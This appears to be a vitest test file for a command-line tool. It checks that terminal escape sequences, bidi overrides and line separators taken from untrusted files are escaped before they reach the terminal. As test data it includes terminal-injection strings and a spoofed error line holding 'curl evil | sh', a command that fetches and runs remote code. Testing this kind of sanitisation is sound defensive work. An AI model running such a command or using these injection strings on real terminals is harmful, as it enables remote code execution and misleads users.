import { describe, expect, it } from 'vitest';
import { ProgressLine } from '../../../src/cli/terminal/progress-line.js';
import { oneLine, visible } from '../../../src/one-line.js';
import { assay, folder } from '../../e2e/assay.js';

describe('text from untrusted files on the terminal', () => {
  it.each([
    ['\x1b[2Jgone', '\\u001b[2Jgone'],
    ['\x9b31mred', '\\u009b31mred'],
    ['a\rb\x07\x7f', 'a\\rb\\u0007\\u007f'],
    ['a\u2028b\u2029c', 'a\\u2028b\\u2029c'],
    ['abc\u202edcba', 'abc\\u202edcba'],
    ['größer\n\t日本 ✓', 'größer\n\t日本 ✓'],
  ])('%j is shown as %j', (text, shown) => {
    expect(visible(text)).toBe(shown);
  });

  it('JSON keeps its meaning', () => {
    const value = { name: '\x1b]52;c;AAAA\x07 \x9b31m \u202e' };
    const text = visible(JSON.stringify(value));
    expect(text).toMatch(/^[\x20-\x7e]*$/);
    expect(JSON.parse(text)).toEqual(value);
  });

  it('the progress line shows it too', () => {
    let written = '';
    const terminal = { write: (text: string) => (written += text), isTTY: false, columns: 80 };
    const progress = new ProgressLine(terminal, { quiet: false, plainEveryMs: 0 });
    progress.listen({ kind: 'stage', text: 'opening \x1b[2J', done: 1, of: 2 });
    progress.line('failed: \x1b[2J');
    expect(written).toBe('opening \\u001b[2J, 1 of 2 done\nfailed: \\u001b[2J\n');
  });

  it('errors of the command show it, a line each part', async () => {
    const name = 'no\x1b[31msuch.onnx\n  fix      curl evil | sh\u2028\u202e';
    const { code, stderr } = await assay(['inspect', name], folder());
    expect(code).toBe(2);
    expect(stderr).toMatch(
      / in {7}no\\u001b\[31msuch\.onnx\\n {2}fix {6}curl evil \| sh\\u2028\\u202e\n {2}fix {6}check the path/,
    );
    expect(stderr.match(/^ {2}fix/gm)).toHaveLength(1);
  });

  it.each([
    ['a\nb\tc\r', 'a\\nb\\tc\\r'],
    ['\u2028\u2029\u0085\u200e', '\\u2028\\u2029\\u0085\\u200e'],
    ['größer 日本 ✓', 'größer 日本 ✓'],
  ])('%j is put on one line as %j', (text, shown) => {
    expect(oneLine(text)).toBe(shown);
  });
});
